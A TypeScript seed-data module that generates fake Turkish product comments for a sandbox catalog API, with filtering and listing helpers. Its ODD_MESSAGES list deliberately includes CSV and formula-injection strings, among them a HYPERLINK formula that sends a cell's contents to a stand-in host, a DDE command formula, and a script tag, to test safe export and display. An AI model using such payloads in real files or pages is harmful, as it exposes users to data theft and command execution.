/** Comments of buyers, and their listings. */

import {
  type Comment,
  type CommentedProduct,
  type Id,
  idSchemas,
  type InputOf,
} from "@catalog/contract";

import { createHashedId, pickFrom, pickNumber } from "./catalog/names.ts";
import type { SandboxCatalog } from "./catalog/sandbox-catalog.ts";
import { createName, isBetween, isWithinPeriod, maskName, sortByTime, toIso } from "./history.ts";
import { brandName, paidAmount, shippingPrice } from "./products/product-search.ts";
import type { SandboxProduct } from "./products/product-state.ts";

type Satisfaction = "happy" | "neutral" | "unhappy";

/** Sentences by satisfaction. */
const OPENINGS: Readonly<Record<Satisfaction, readonly string[]>> = {
  happy: [
    "Ürün beklediğimden de güzel çıktı",
    "Çok beğendik, ikincisini de aldık",
    "Işıl ışıl, tam fotoğraftaki gibi",
    "Kargo ertesi gün geldi, teşekkürler",
    "Fiyatına göre gayet başarılı",
    "Annem için aldım, bayıldı 😍",
    "Satıcı çok ilgili, hediye de koymuş 🎁",
  ],
  neutral: [
    "İdare eder, fiyatı biraz yüksek",
    "Rengi fotoğraftakinden açık",
    "Ürün güzel ama kargo geç geldi",
    "Ne iyi ne kötü",
    "Beden olarak küçük kalıyor",
  ],
  unhappy: [
    "Kutusu ezilmiş geldi",
    "İade etmek istiyorum, cevap veren yok 😡",
    "Açıklamada yazan ürün bu değil",
    "İki haftada bozuldu",
    "Eksik parça çıktı",
    "Kesinlikle tavsiye etmiyorum 👎🏽",
  ],
};

const ENDINGS: readonly string[] = [
  ".",
  "!",
  ". Tavsiye ederim.",
  ". Ölçüleri 10,5 × 20 cm.",
  ". Şişirilmiş değil, gerçek yorum.",
  "; paketleme özenliydi.",
  ". Öğretmenler Günü için aldım.",
  "...",
];

/** Texts that a spreadsheet, a CSV file or a web page can misread. */
export const ODD_MESSAGES: readonly string[] = [
  '=HYPERLINK("http://kotu.example/?q="&A1;"Kampanya için tıklayın")',
  '=HYPERLINK("http://kotu.example","Tıkla")',
  "=1+1",
  "+905551112233 numarasından ulaşın",
  "-5 puan, keşke verebilsem",
  "@SUM(A1:A9)",
  "\t=2+5",
  "=cmd|' /C calc'!A0",
  'Satıcı "hemen kargolarız" dedi, "yarın" oldu',
  '"',
  "İlk satır\nİkinci satır\n\nSon satır",
  "Windows satırı\r\nalt satır",
  "Noktalı; virgül, ve\tsekme",
  "<b>Kalın</b> & <script>alert(1)</script>",
  "😍😍😍",
  "👨‍👩‍👧‍👦 ailecek bayıldık 🇹🇷",
  "ÇOK İYİ ÜRÜN IŞIK GİBİ ŞĞÜÖÇİ",
  "0012345",
  "1,5",
  "12.05.2024",
  "NULL",
  "  başta ve sonda boşluk  ",
  `Uzun yorum: ${"Çok memnun kaldım, herkese öneririm. ".repeat(40).trim()}`,
];

/** Where a comment was written. */
type CommentSource = "product_details" | "order";

export interface SandboxComment {
  readonly id: Id<"comment">;
  readonly product: SandboxProduct;
  readonly name: string;
  readonly rate: number;
  readonly satisfaction: Satisfaction;
  readonly message: string;
  readonly source: CommentSource;
  readonly createdAtMs: number;
}

interface SeedCommentsOptions {
  readonly products: readonly SandboxProduct[];
  readonly nowMs: number;
}

const COMMENT_COUNT = 2000;

const COMMENT_STEP_MS = 5 * 60 * 60 * 1000;
/** One comment in this many has an odd text. */
const ODD_EVERY = 9;

/** Creates the comments, oldest first. */
export function createSeedComments(options: SeedCommentsOptions): readonly SandboxComment[] {
  return Array.from({ length: COMMENT_COUNT }, (_, index) => createComment(options, index));
}

function createComment({ products, nowMs }: SeedCommentsOptions, index: number): SandboxComment {
  const name = `${index + 1}`;
  const rate = pickFrom([5, 5, 5, 4, 4, 3, 2, 1, 1], "rate", name);
  const satisfaction = satisfactionOf(rate);
  return {
    id: idSchemas.comment.parse(createHashedId("comment", name)),
    product: pickProduct(products, name),
    name: maskName(createName("comment", name)),
    rate,
    satisfaction,
    message: createMessage(index, satisfaction),
    source: pickNumber(3, "place", name) === 0 ? "order" : "product_details",
    createdAtMs:
      nowMs - (COMMENT_COUNT - index) * COMMENT_STEP_MS + pickNumber(COMMENT_STEP_MS, "time", name),
  };
}

function satisfactionOf(rate: number): Satisfaction {
  if (rate > 3) return "happy";
  return rate === 3 ? "neutral" : "unhappy";
}

/** Picks a product so that few products have many comments, and many have few. */
function pickProduct(products: readonly SandboxProduct[], name: string): SandboxProduct {
  const reach = 1 + pickNumber(products.length, "reach", name);
  return pickFrom(products.slice(0, reach), "product of comment", name);
}

function createMessage(index: number, satisfaction: Satisfaction): string {
  const odd =
    index % ODD_EVERY === 0 ? ODD_MESSAGES[(index / ODD_EVERY) % ODD_MESSAGES.length] : "";
  if (odd) return odd;
  const name = `${index + 1}`;
  return pickFrom(OPENINGS[satisfaction], "opening", name) + pickFrom(ENDINGS, "ending", name);
}

type CommentQuery = InputOf<"comment.storeComments"> &
  Pick<InputOf<"comment.productComments">, "commented_at_product_details" | "commented_at_order">;

/** The comments that match the query, in its order; paging is not applied. */
export function selectComments(
  comments: readonly SandboxComment[],
  query: CommentQuery,
): readonly SandboxComment[] {
  const wanted = wantedVisibility(query);
  const found = comments.filter(
    (comment) =>
      isWithinPeriod(comment.createdAtMs, query) &&
      (query.satisfaction ?? comment.satisfaction) === comment.satisfaction &&
      isBetween(comment.rate, [query.rate, query.min_rate, query.max_rate]) &&
      (wanted.length === 0 || wanted.includes(comment.source)),
  );
  return sortByTime(found, query.sort_by_date);
}

/** The sources that the two filters select; both filters, or none, select both sources. */
function wantedVisibility(query: CommentQuery): readonly CommentSource[] {
  const { commented_at_product_details: atDetails, commented_at_order: atOrder } = query;
  return [
    ...(atDetails === 1 ? ["product_details" as const] : []),
    ...(atOrder === 1 ? ["order" as const] : []),
  ];
}

/** Makes an element of a comment listing, which does not name its product. */
export function toComment(comment: SandboxComment): Comment {
  return {
    id: comment.id,
    status: "approved",
    full_name: comment.name,
    satisfaction: comment.satisfaction,
    message: comment.message,
    rate: comment.rate,
    comment_type: comment.source,
    created_at: toIso(comment.createdAtMs),
  };
}

interface CommentCount {
  readonly product: SandboxProduct;
  readonly count: number;
}

/** The commented products that match the query, in its order; equal counts are sorted by code. */
export function countComments(
  comments: readonly SandboxComment[],
  query: InputOf<"comment.commentedProducts">,
): readonly CommentCount[] {
  const { comment_count, min_comment_count, max_comment_count } = query;
  const byProduct = Map.groupBy(comments, ({ product }) => product);
  const counts = [...byProduct]
    .map(([product, own]) => ({ product, count: own.length }))
    .filter(({ count }) => isBetween(count, [comment_count, min_comment_count, max_comment_count]))
    .toSorted(
      (a, b) => a.count - b.count || (a.product.product_code < b.product.product_code ? 1 : -1),
    );
  return sortByTime(counts, query.sort_by_comment_count);
}

/** Makes an element of the listing of commented products: prices are minor units, as text. */
export function toCommentedProduct(
  catalog: SandboxCatalog,
  product: SandboxProduct,
  count: number,
): CommentedProduct {
  return {
    id: product.id,
    title: product.title,
    subtitle: product.sub_title,
    product_code: product.product_code,
    category_name: catalog.category(product.category_id)?.name,
    brand_name: brandName(catalog, product),
    comment_count: count,
    stock: product.stock_count,
    sid: product.sid,
    description: product.description,
    currency: product.currency ?? "TL",
    paid_price: String(paidAmount(product)),
    shipping_price: String(shippingPrice(catalog, product)),
    created_at: toIso(product.addedAtMs),
    images: product.images,
  };
}
